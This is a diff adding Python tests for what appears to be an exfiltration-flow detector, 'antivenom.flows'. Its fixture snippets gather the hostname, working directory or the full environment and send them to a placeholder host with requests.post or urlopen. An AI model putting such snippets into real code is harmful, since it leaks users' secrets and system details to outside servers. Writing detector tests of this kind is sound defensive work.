@@ -1,0 +1,52 @@
+"""Host facts collected in one function and sent from another (antivenom.flows)."""
+
+from __future__ import annotations
+
+import textwrap
+
+from antivenom import flows
+
+
+def lines_of(source: str) -> list[int]:
+    return [line for line, _, _ in flows.find(textwrap.dedent(source).encode())]
+
+
+def test_collector_posted_by_another_function_is_a_flow():
+    source = """\
+        import os, socket, requests
+        def facts():
+            return {"h": socket.gethostname(), "cwd": os.getcwd()}
+        def send():
+            data = facts()
+            requests.post("https://example.invalid/c", json=data)
+        """
+    assert lines_of(source) == [6]
+
+
+def test_collector_called_inside_the_sink_arguments():
+    source = """\
+        import os, urllib.request
+        def env():
+            return "&".join(f"{k}={v}" for k, v in os.environ.items())
+        urllib.request.urlopen("https://example.invalid/?" + env())
+        """
+    assert lines_of(source) == [4]
+
+
+def test_one_variable_read_or_no_sink_is_not_a_flow():
+    source = """\
+        import os, socket, logging
+        def home():
+            return os.environ["HOME"]
+        def name():
+            return socket.gethostname()
+        def show():
+            logging.info("host %s", name())
+            requests.get("https://example.invalid/" + home())
+        """
+    assert lines_of(source) == []
+
+
+def test_deep_or_broken_source_does_not_raise():
+    assert flows.find(b"x = " + b"+".join(b"'a'" for _ in range(3000))) == []
+    assert flows.find(b"def broken(:\n") == []
